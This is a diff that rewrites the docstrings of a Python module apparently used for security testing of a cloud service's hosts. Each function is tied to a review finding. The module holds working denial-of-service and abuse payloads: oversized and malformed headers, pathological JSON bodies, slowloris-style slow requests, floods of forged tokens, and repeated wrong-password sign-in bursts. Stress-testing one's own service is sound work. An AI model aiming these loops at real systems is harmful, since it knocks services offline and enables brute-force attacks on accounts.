@@ -1,4 +1,6 @@
-"""Attacks on the cloud's hosts: without credentials, and with the valid token of one integrator."""
+"""Attacks on the cloud's hosts, without credentials or with the valid token of one integrator. Names like "security 1"
+and "cloud 1" are findings of the reviews.
+"""
 
 import asyncio
 from itertools import count
@@ -11,7 +13,7 @@ REQUESTS_A_SECOND = 20
 
 
 async def host_of_spaces(target: Target) -> None:
-    """Send a Host header of 40 000 inner spaces on an unknown method (security 1)."""
+    """Send an unknown method with a Host header that has 40 000 spaces inside (finding security 1)."""
     request = b"FROB /health/live HTTP/1.1\r\nHost: x" + b" " * SPACES + b"y\r\n\r\n"
     while True:
         await exchange(target.api, request)
@@ -19,7 +21,7 @@ async def host_of_spaces(target: Target) -> None:
 
 
 async def escaped_quotes(target: Target) -> None:
-    """Send a JSON body of brackets and escaped quotes, with a valid token (security 4)."""
+    """Send a JSON body of brackets and escaped quotes, with a valid token (finding security 4)."""
     body = b"[" * 65 + b'"' + b'\\"' * 60_000
     lines = (f"Authorization: Bearer {target.token}", "Content-Type: application/json")
     while True:
@@ -28,7 +30,8 @@ async def escaped_quotes(target: Target) -> None:
 
 
 async def slow_bodies(target: Target) -> None:
-    """Send 80 bodies of one byte a second on a route that takes none, and on one that takes a form (security 12)."""
+    """Send request bodies at one byte a second, on 80 connections to a route without a body and on 80 to a route that
+    reads a form (finding security 12)."""
     unwanted = http_request("GET", "/health/live", length=1000)
     form = http_request("POST", "/v1/oauth/token", "Content-Type: application/x-www-form-urlencoded", length=1000)
     async with asyncio.TaskGroup() as tasks:
@@ -37,12 +40,13 @@ async def slow_bodies(target: Target) -> None:
 
 
 async def slow_heads(target: Target) -> None:
-    """Send request heads of one byte a second."""
+    """Send request headers at one byte a second, on 80 connections."""
     await hold_connections(target.api, SLOW_BODIES, b"GET / HTTP/1.1\r\nX-A: ", b"a", source=lambda _: "127.0.0.1")
 
 
 async def made_up_tokens(target: Target) -> None:
-    """Send requests without a token and with made-up ones, from the address of every integrator (cloud 1)."""
+    """Send requests without a token and with invalid tokens, from the address that all integrators share (finding cloud
+    1)."""
     for number in count():
         lines = () if number % 2 else (f"Authorization: Bearer eyJhbGciOiJSUzI1NiJ9.e30.{number:0342d}",)
         await exchange(target.api, http_request("GET", "/api/v1/devices", *lines))
@@ -50,7 +54,7 @@ async def made_up_tokens(target: Target) -> None:
 
 
 async def raw_cookies(target: Target) -> None:
-    """Send cookies that are no text, and heads above the limit."""
+    """Send cookies that are not valid text, and request headers above the size limit."""
     cookies = http_request("GET", "/sign-in", "Cookie: argus_session=\xff\xfe; argus_visit=\xff")
     head = http_request("GET", "/health/live", f"X-Filler: {'a' * 84_000}")
     while True:
@@ -60,7 +64,7 @@ async def raw_cookies(target: Target) -> None:
 
 
 async def burst_of_sign_ins(target: Target) -> None:
-    """Send twenty parallel wrong passwords for one name, repeatedly (cloud 5)."""
+    """Send twenty sign-ins with a wrong password for one user at once, every second (finding cloud 5)."""
     form = f"username={target.username}&password=wrong".encode()
     request = http_request("POST", "/sign-in", "Content-Type: application/x-www-form-urlencoded", body=form)
     while True:
